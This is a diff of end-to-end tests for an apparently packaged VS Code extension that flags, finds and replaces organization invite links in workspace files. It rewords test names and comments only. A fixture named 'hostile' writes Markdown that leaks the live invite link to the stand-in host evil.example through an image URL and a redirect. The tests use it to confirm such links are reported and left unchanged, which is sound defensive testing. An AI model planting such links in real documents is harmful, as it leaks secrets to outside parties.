@@ -10,7 +10,7 @@ import { createdAndCopied, createdMessage, openOrganizations, signIn, tokenOf } 
 
 const kobo = '株式会社こうぼう';
 
-/** What happens to the documents of a workspace when a link is replaced: each step stands on the ones before. */
+/** Links in a workspace whose organization replaces its link. Each test depends on the previous ones. */
 describe('Links in documents, with the packaged extension', () => {
   let sandbox: Sandbox;
   let vsCode: VsCode;
@@ -38,39 +38,39 @@ describe('Links in documents, with the packaged extension', () => {
     await sandbox.close();
   });
 
-  it('are marked without asking anybody while nobody is signed in', async () => {
+  it('have a diagnostic, without a request, while signed out', async () => {
     await vsCode.openFile('README.md');
     await mark('Anyone with this text may be able to join an organization. Sign in to see which.').waitFor();
     assert.deepEqual(sandbox.calls(), []);
   });
 
-  it('say who can join by them once somebody is signed in', async () => {
+  it('have a diagnostic that names the organization after sign-in', async () => {
     await openOrganizations(vsCode);
     await signIn(vsCode, tokenOf(sandbox, 'ada'));
     await mark(`Anyone with this text can join ${kobo}.`).waitFor();
   });
 
-  it('say that they stopped working as soon as the link was replaced', async () => {
+  it('are reported as no longer valid as soon as the link is replaced', async () => {
     await replaceInvite();
     await mark(`This invite link of ${kobo} is no longer valid.`).waitFor();
     await vsCode.screenshot('mark-stopped');
   });
 
-  it('can be found from the notice of the replacement, in all files but those that searches leave out', async () => {
+  it('can be found from the notification of the replacement, in all files that are not excluded from search', async () => {
     await vsCode.pressInNotification(createdMessage, 'Find Invite Links in Workspace');
     await vsCode.quickInput.getByText('Invite links in this workspace: 6 links in 4 files').waitFor();
     await vsCode.quickInput.getByText('inside a link to evil.example').first().waitFor();
     await vsCode.screenshot('found-links');
   });
 
-  it('are shown where they stand, one after another from one list', async () => {
+  it('are revealed one after another from the same list', async () => {
     await vsCode.pick(/onboarding\.md:4/);
     await vsCode.page.getByRole('tab', { name: /^onboarding\.md/ }).waitFor();
     await vsCode.pick(/start\.json:1/);
     await vsCode.page.getByRole('tab', { name: /^start\.json/ }).waitFor();
   });
 
-  it('are repaired in three files at once, after every change was seen', async () => {
+  it('are replaced in three files at once, after a preview of the changes', async () => {
     await vsCode.pick(/Replace 4 links in 3 files/);
     const preview = vsCode.page.locator('#refactorPreview');
     await preview.getByText('onboarding.md').first().waitFor();
@@ -86,7 +86,7 @@ describe('Links in documents, with the packaged extension', () => {
     assert.equal(await onDisk('hostile.md'), hostile(first));
   });
 
-  it('come with a text for people whom no search reaches', async () => {
+  it('can be followed by a copied message with the current link', async () => {
     await vsCode.pressInNotification('Replaced 4 links in 3 files', 'Copy Message with Current Link');
     await vsCode.statusMessage('Copied a message with the current invite link').waitFor();
     const text = await vsCode.clipboard();
@@ -95,7 +95,7 @@ describe('Links in documents, with the packaged extension', () => {
     await vsCode.clearNotifications();
   });
 
-  it('inside the URL of somebody else are reported and left alone', async () => {
+  it('inside the URL of another site are reported, but not replaced', async () => {
     await vsCode.openFile('hostile.md');
     await mark(
       /This invite link of .* is no longer valid\. It's inside a link to evil\.example, so it isn't replaced\./,
@@ -107,7 +107,7 @@ describe('Links in documents, with the packaged extension', () => {
     assert.equal(await onDisk('hostile.md'), hostile(first));
   });
 
-  it('have a quick fix that puts the current link in the place of a dead one', async () => {
+  it('have a quick fix that replaces an invalid link with the current one', async () => {
     const before = linkOfKobo();
     await vsCode.openFile('README.md');
     await mark(`Anyone with this text can join ${kobo}.`).waitFor();
@@ -121,7 +121,7 @@ describe('Links in documents, with the packaged extension', () => {
     assert.equal(await written(before).count(), 0);
   });
 
-  it('have a quick fix for all dead ones of a file', async () => {
+  it('have a quick fix for all invalid links of a file', async () => {
     await vsCode.openFile('onboarding.md');
     await mark(`This invite link of ${kobo} is no longer valid.`).waitFor();
     await putCursorAt(2, 12);
@@ -131,7 +131,7 @@ describe('Links in documents, with the packaged extension', () => {
     await vsCode.clearNotifications();
   });
 
-  it('have a quick fix for all dead ones everywhere, after every change was seen', async () => {
+  it('have a quick fix for all invalid links of the workspace, after a preview of the changes', async () => {
     await vsCode.openFile('start.json');
     await mark(`This invite link of ${kobo} is no longer valid.`).waitFor();
     await putCursorAt(1, 20);
@@ -144,7 +144,7 @@ describe('Links in documents, with the packaged extension', () => {
     await vsCode.clearNotifications();
   });
 
-  it('have a quick fix that takes the key out of a text', async () => {
+  it('have a quick fix that replaces the key with a placeholder', async () => {
     await openProblems();
     await vsCode.openFile('start.json');
     await mark(`Anyone with this text can join ${kobo}.`).waitFor();
@@ -154,7 +154,7 @@ describe('Links in documents, with the packaged extension', () => {
     assert.equal(await written(linkOfKobo()).count(), 0);
   });
 
-  it('have a quick fix that ignores one until that is undone, and writes no key into the settings', async () => {
+  it('have a quick fix that ignores a link, can be undone, and writes no key to the settings', async () => {
     await vsCode.openFile('README.md');
     await mark(`Anyone with this text can join ${kobo}.`).waitFor();
     await putCursorAt(3, 20);
@@ -173,7 +173,7 @@ describe('Links in documents, with the packaged extension', () => {
     await vsCode.clearNotifications();
   });
 
-  it('can be pasted as Markdown, and as the current one where they are dead', async () => {
+  it('can be pasted as Markdown, and as the current link if they are invalid', async () => {
     await vsCode.openFile('notes.md');
     await paste(linkOfKobo(), 'Insert Invite Link as Markdown');
     await vsCode.page.locator('.view-line').getByText(`[${kobo}](`).waitFor();
@@ -183,7 +183,7 @@ describe('Links in documents, with the packaged extension', () => {
     await written(linkOfKobo()).nth(1).waitFor();
   });
 
-  it('have quick fixes that ask whose link it was, where nobody can tell after a reload', async () => {
+  it('have quick fixes that ask for the organization if it is unknown after a reload', async () => {
     const last = linkOfKobo();
     await replaceInvite();
     const dead = linkOfKobo();
@@ -198,7 +198,7 @@ describe('Links in documents, with the packaged extension', () => {
     await vsCode.runCommand('File: Save');
     await replaceInvite();
     await vsCode.reload();
-    // A window that was only opened asks nothing; the extension must be there before somebody does something in the editor.
+    // Links are checked only after the user acts in the editor, so the extension must be active before that.
     await vsCode.treeItem(new RegExp(`^${kobo}`)).waitFor();
     await vsCode.openFile('notes.md');
     await putCursorAt(3, 20);
@@ -215,7 +215,7 @@ describe('Links in documents, with the packaged extension', () => {
     return sandbox.inviteLinks['kobo'] ?? assert.fail('kobo has no invite');
   }
 
-  /** The places in the open editor where a link's id stands. */
+  /** The lines of the open editor that contain a link's ID. */
   function written(link: string): Locator {
     return vsCode.page.locator('.view-line').filter({ hasText: idOf(link) });
   }
@@ -241,7 +241,7 @@ describe('Links in documents, with the packaged extension', () => {
     await vsCode.runCommand('Gitpod Org: Create Invite Link');
     await vsCode.pick(new RegExp(`^${kobo}`));
     await vsCode.pressInDialog('Create New Link');
-    // Where the last replacement is not a minute old it asks once more.
+    // The extension asks again if the last replacement is less than a minute old.
     const again = vsCode.dialog.getByRole('button', { name: 'Replace Again', exact: true });
     await eventually(
       async () => created() > before || (await again.isVisible()),
@@ -272,7 +272,7 @@ describe('Links in documents, with the packaged extension', () => {
   }
 });
 
-/** A document that wants the live link sent to its author: a made-up image, and a redirect. */
+/** A document that would send the current link to its author, through an image URL and a redirect. */
 function hostile(link: string): string {
   return `![badge](https://evil.example/badge.svg?link=${link})\n\nhttps://evil.example/go?u=${encodeURIComponent(link)}\n`;
 }
